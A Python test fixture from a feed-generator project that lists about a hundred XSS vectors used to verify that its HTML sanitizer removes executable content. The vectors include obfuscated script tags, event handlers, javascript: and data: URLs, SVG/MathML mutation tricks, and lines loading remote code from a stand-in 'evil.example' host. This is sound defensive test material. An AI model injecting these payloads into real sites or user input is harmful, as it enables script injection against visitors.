"""An XSS corpus for the hostile-content tests (tests/test_hostile.py).

Written for vnfeeds from the classes of attack that feedparser's and Miniflux's sanitizer tests
and the OWASP XSS filter evasion cheat sheet describe; no payload or wording is copied from them.
Each vector is markup a portal page (or someone who got text into a portal's CMS) could carry.
The tests put every vector into an article's body, image caption and author line, and into
another article's title and sapo, crawl them with the real spider, build the feeds, and check
that nothing executable reaches the store, a feed, index.html or status.html.

`swallows`: the vector leaves an element open whose content model eats what follows it (an
unclosed <script>, a comment that never ends, <plaintext>, an <svg> never closed: libxml2 keeps
the following paragraphs inside it where a browser would break out, and the sanitizer drops the
<svg> with all it holds). A page with it in the title may then have no body left and be dropped,
which is a valid outcome; the body article keeps its first paragraph either way.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Vector:
    name: str
    html: str
    swallows: bool = False


# <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/> and <script>alert(1)</script>
_SVG_SCRIPT_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
_HTML_SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

VECTORS: list[Vector] = [
    # -- <script> in every spelling ------------------------------------------------------------
    Vector("script-plain", "<script>alert(1)</script>"),
    Vector("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    Vector("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    Vector("script-external-src", '<script src="https://evil.example/x.js"></script>'),
    Vector("script-slash-separator", '<script/src="https://evil.example/x.js"></script>'),
    Vector("script-split-by-inner-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Vector("script-double-open", "<<script>alert(1);//<</script>"),
    Vector("script-null-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    Vector("script-whitespace-in-tag", '<script\n\ttype="text/javascript"\n>alert(1)</script\n>'),
    Vector("script-in-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Vector("script-unclosed", "<script>alert(1)", swallows=True),
    Vector("script-tag-unterminated", '<script src="https://evil.example/x.js"', swallows=True),
    Vector("script-escaped-as-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Vector("script-double-escaped", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    Vector(
        "script-xhtml-namespace",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    ),
    # -- event handlers ------------------------------------------------------------------------
    Vector("onerror-img", "<img src=x onerror=alert(1)>"),
    Vector("onerror-upper-quoted", '<IMG SRC="/anh/hoi-nghi.jpg" ONERROR="alert(1)">'),
    Vector("onerror-no-space", '<img src="x"onerror="alert(1)">'),
    Vector("onerror-slash-separators", "<img/src=x/onerror=alert(1)>"),
    Vector("onerror-control-char", '<img src=x onerror\x0b="alert(1)">'),
    Vector("onerror-audio", "<audio src=x onerror=alert(1)></audio>"),
    Vector("onerror-video-source", '<video><source src=x onerror="alert(1)"></video>'),
    Vector("onload-body", "<body onload=alert(1)>"),
    Vector("onload-svg", "<svg onload=alert(1)>", swallows=True),
    Vector("onload-svg-slash", "<svg/onload=alert(1)>", swallows=True),
    Vector("onload-iframe", "<iframe onload=alert(1)></iframe>"),
    Vector("onmouseover-div", '<div onmouseover="alert(1)">Di chuột vào đây</div>'),
    Vector("onmouseover-unquoted-b", "<b onmouseover=alert(1)>chữ đậm</b>"),
    Vector("onclick-link", '<a href="https://example.vn/" onclick="alert(1)">liên kết</a>'),
    Vector("onfocus-autofocus-input", "<input onfocus=alert(1) autofocus>"),
    Vector("onfocus-autofocus-textarea", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
    Vector("onfocus-tabindex-span", '<span tabindex="1" onfocus="alert(1)" id="x">mục</span>'),
    Vector("ontoggle-details", "<details open ontoggle=alert(1)><summary>Xem</summary></details>"),
    Vector("onstart-marquee", "<marquee onstart=alert(1)>chạy chữ</marquee>"),
    Vector("onpointerenter-p", "<p onpointerenter=alert(1)>đoạn văn</p>"),
    Vector(
        "onanimationstart-style",
        "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>"
        "hoạt hình</p>",
    ),
    Vector(
        "onbegin-svg-animate",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        swallows=True,
    ),
    # -- javascript:, vbscript:, data: URLs ----------------------------------------------------
    Vector("href-javascript", '<a href="javascript:alert(1)">xem</a>'),
    Vector("href-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">xem</a>'),
    Vector("href-javascript-decimal-entity", '<a href="&#106;avascript:alert(1)">xem</a>'),
    Vector("href-javascript-hex-entity", '<a href="&#x6A;avascript:alert(1)">xem</a>'),
    Vector(
        "href-javascript-padded-entities",
        '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">xem</a>',
    ),
    Vector("href-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">xem</a>'),
    Vector("href-javascript-raw-newline", '<a href="java\nscript:alert(1)">xem</a>'),
    Vector("href-javascript-raw-tab", '<a href="java\tscript:alert(1)">xem</a>'),
    Vector("href-javascript-leading-space", '<a href="  javascript:alert(1)">xem</a>'),
    Vector("href-javascript-colon-entity", '<a href="javascript&colon;alert(1)">xem</a>'),
    Vector("href-javascript-null", '<a href="java\x00script:alert(1)">xem</a>'),
    Vector(
        "href-javascript-newline-payload", '<a href="JAVASCRIPT://example.vn/%0Aalert(1)">xem</a>'
    ),
    Vector("href-vbscript", '<a href="vbscript:msgbox(1)">xem</a>'),
    Vector("href-data-html", f'<a href="data:text/html;base64,{_HTML_SCRIPT_B64}">xem</a>'),
    Vector("href-data-html-case", '<a href="DaTa:TeXt/HtMl,<script>alert(1)</script>">xem</a>'),
    Vector("src-javascript", '<img src="javascript:alert(1)">'),
    Vector("src-data-svg", f'<img src="data:image/svg+xml;base64,{_SVG_SCRIPT_B64}">'),
    Vector("src-vbscript", '<img src="vbscript:msgbox(1)">'),
    Vector("srcset-javascript", '<img src="/anh/a.jpg" srcset="javascript:alert(1) 1x">'),
    Vector(
        "srcset-data-html",
        '<img src="/anh/a.jpg" srcset="data:text/html,<script>alert(1)</script> 2x">',
    ),
    Vector("href-file", '<a href="file:///etc/passwd">tệp</a>'),
    # -- embedding, navigation, forms ----------------------------------------------------------
    Vector("iframe-src", '<iframe src="https://evil.example/"></iframe>'),
    Vector("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    Vector("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    Vector("frameset-frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    Vector("object-data", '<object data="javascript:alert(1)"></object>'),
    Vector(
        "object-flash",
        '<object type="application/x-shockwave-flash" data="https://evil.example/x.swf">'
        '<param name="allowScriptAccess" value="always"></object>',
    ),
    Vector("embed-src", '<embed src="https://evil.example/x.swf">'),
    Vector("embed-javascript", '<embed src="javascript:alert(1)">'),
    Vector("applet", '<applet code="Evil.class" archive="https://evil.example/e.jar"></applet>'),
    Vector(
        "meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
    ),
    Vector(
        "meta-refresh-data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{_HTML_SCRIPT_B64}">',
    ),
    Vector("base-href", '<base href="javascript:alert(1)//">'),
    Vector("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    Vector("form-action", '<form action="javascript:alert(1)"><input type="submit"></form>'),
    Vector("button-formaction", '<button formaction="javascript:alert(1)">Gửi</button>'),
    Vector("isindex", '<isindex type="image" src="x" onerror="alert(1)">'),
    # -- style ---------------------------------------------------------------------------------
    Vector("style-attr-url", '<p style="background:url(javascript:alert(1))">nền</p>'),
    Vector("style-attr-expression", '<p style="width:expression(alert(1))">rộng</p>'),
    Vector("style-attr-css-escapes", '<p style="background:url(\\6a avascript:alert(1))">x</p>'),
    Vector(
        "style-attr-overlay",
        '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100%;'
        'height:100%">Nhấn vào đây</a>',
    ),
    Vector(
        "style-attr-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>'
    ),
    Vector("style-tag-url", "<style>p{background:url('javascript:alert(1)')}</style>"),
    Vector("style-tag-import", "<style>@import 'https://evil.example/x.css';</style>"),
    Vector("style-tag-expression", "<style>p{width:expression(alert(1))}</style>"),
    # -- SVG and MathML ------------------------------------------------------------------------
    Vector("svg-script", "<svg><script>alert(1)</script></svg>"),
    Vector(
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="9">bấm</text></a></svg>',
    ),
    Vector(
        "svg-animate-href",
        '<svg><a><animate attributeName="href" to="javascript:alert(1)"/>'
        "<text y=9>bấm</text></a></svg>",
    ),
    Vector(
        "svg-foreignobject",
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    ),
    Vector("svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    Vector(
        "svg-p-style-breakout",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
    ),
    Vector("math-href", '<math href="javascript:alert(1)">x</math>'),
    Vector(
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        swallows=True,
    ),
    Vector(
        "math-form-mglyph",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        swallows=True,
    ),
    Vector(
        "math-svg-mtext-style",
        '<math><mtext><table><mglyph><svg><mtext><style><path id="</style>'
        '<img onerror=alert(1) src>">',
        swallows=True,
    ),
    # -- comments, raw-text elements, parser differentials -------------------------------------
    Vector("comment-hides-script", "<!--<script>alert(1)</script>-->"),
    Vector("comment-nested", "<!-- <!-- --><script>alert(1)</script> -->"),
    Vector("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    Vector("comment-downlevel-revealed", "<![if !IE]><script>alert(1)</script><![endif]>"),
    Vector("comment-empty-breakout", "<!--><script>alert(1)</script>-->"),
    Vector("comment-dashes", "<!--- -- ---><img src=x onerror=alert(1)>"),
    Vector("comment-unclosed", "<!-- <script>alert(1)</script>", swallows=True),
    Vector("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    Vector("noscript-img", "<noscript><img src=x onerror=alert(1)></noscript>"),
    Vector(
        "noscript-attr-breakout",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),
    Vector("template-script", "<template><script>alert(1)</script></template>"),
    Vector("title-rcdata", "<title><img src=x onerror=alert(1)></title>"),
    Vector("textarea-breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
    Vector("xmp-raw-text", "<xmp><img src=x onerror=alert(1)></xmp>"),
    Vector("plaintext", "<plaintext><img src=x onerror=alert(1)>", swallows=True),
    Vector("alt-attr-breakout", '<img src="/anh/a.jpg" alt=\'"><script>alert(1)</script>\'>'),
    Vector(
        "title-attr-breakout",
        '<a href="https://example.vn/" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">'
        "liên kết</a>",
    ),
    Vector("unknown-element-handler", '<vnfeeds-x onclick="alert(1)">phần tử lạ</vnfeeds-x>'),
]

# Characters XML 1.0 forbids, as raw characters and as character references.
ILLEGAL_RAW = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\ufffe", "\uffff"]
ILLEGAL_REFS = ["&#0;", "&#x1;", "&#11;", "&#x1B;", "&#xD800;", "&#xDFFF;", "&#xFFFE;", "&#xFFFF;"]
# Bytes that are not UTF-8 at all: an encoded lone surrogate (CESU-8 style) and a stray byte.
ILLEGAL_BYTES = [b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xff"]
